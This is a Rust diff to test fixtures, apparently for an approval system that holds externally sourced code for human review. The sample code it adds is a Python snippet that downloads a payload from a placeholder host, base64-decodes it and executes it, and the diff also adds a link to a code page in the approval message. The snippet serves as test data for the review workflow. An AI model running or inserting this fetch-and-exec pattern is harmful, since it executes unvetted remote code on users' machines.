@@ -44,6 +44,7 @@ pub fn asked() -> OverrideAsked {
         language: airlock_protocol::Language::Python,
         origin: Origin::External,
         code_preview: "import base64, urllib.request\npayload = urllib.request.urlopen('http://reports.example/p').read()\nexec(base64.b64decode(payload))\n".into(),
+        code: b"import base64, urllib.request\npayload = urllib.request.urlopen('http://reports.example/p').read()\nexec(base64.b64decode(payload))\n".to_vec(),
         inputs: vec!["arguments: \"--month\" \"2026-10\"".into()],
         deadline_ms: ASKED_AT + 15 * 60_000,
         asked_at_ms: ASKED_AT,
@@ -101,6 +102,9 @@ pub fn message(system: &str) -> Message {
         approved_by: &[],
         system,
         escalated: false,
+        code_page: Some(format!(
+            "https://airlock.example.org/code/{rid}/7f3a9c2e51d84b6f0a1e2d3c4b5a6978"
+        )),
     };
     let mut message = render::request_message(&view);
     message.mentions = view.approvers().to_vec();
